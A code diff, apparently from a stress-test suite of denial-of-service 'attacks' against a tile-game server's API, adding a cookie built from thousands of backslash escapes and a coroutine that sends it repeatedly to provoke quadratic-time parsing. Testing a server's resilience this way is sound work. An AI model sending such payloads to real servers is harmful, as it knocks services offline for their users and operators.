@@ -25,6 +25,7 @@ KEY = "b3Blbmt1YiBvcGVua3ViIQ=="
 HARD = {"rack": "k1 k2 k4 k5 k7 r1 r3 r5 r7 r9 b2 b4 b6 b8 y1 y3 y5 * *", "rules": "jumbo_de", "objective": "value"}
 HEAVY = "default tile_set=160 opening_min_points=100"
 UNABLE = "original_es opening_sets=one"
+ESCAPES = 'a="' + r"\1" * 7_000 + '"'
 BREATH_S = 0.02
 A_WHILE = 50
 
@@ -166,9 +167,21 @@ async def questions(street: Street, address: str) -> None:
     await asyncio.gather(*(street.post(address, "/api/solve", HARD, token) for token in tokens))
 
 
+async def cookies(street: Street, address: str) -> None:
+    """What it takes to read them may be the square of their length."""
+    place = urlsplit(street.base)
+    reader, writer = await asyncio.open_connection(place.hostname, place.port, local_addr=(address, 0))
+    try:
+        for _ in range(A_WHILE):
+            writer.write(f"GET /api/games HTTP/1.1\r\nHost: {place.netloc}\r\nCookie: {ESCAPES}\r\n\r\n".encode())
+            await _read_away(reader)
+    finally:
+        writer.transport.abort()
+
+
 ATTACKS: Sequence[Attack] = (
     pings, unread_pongs, pieces, hellos, unread_views, coming_and_going, chatter, hard_plays, hard_draws,
-    listed_tables, abandoned_bots, questions,
+    listed_tables, abandoned_bots, questions, cookies,
 )  # fmt: skip
 
 
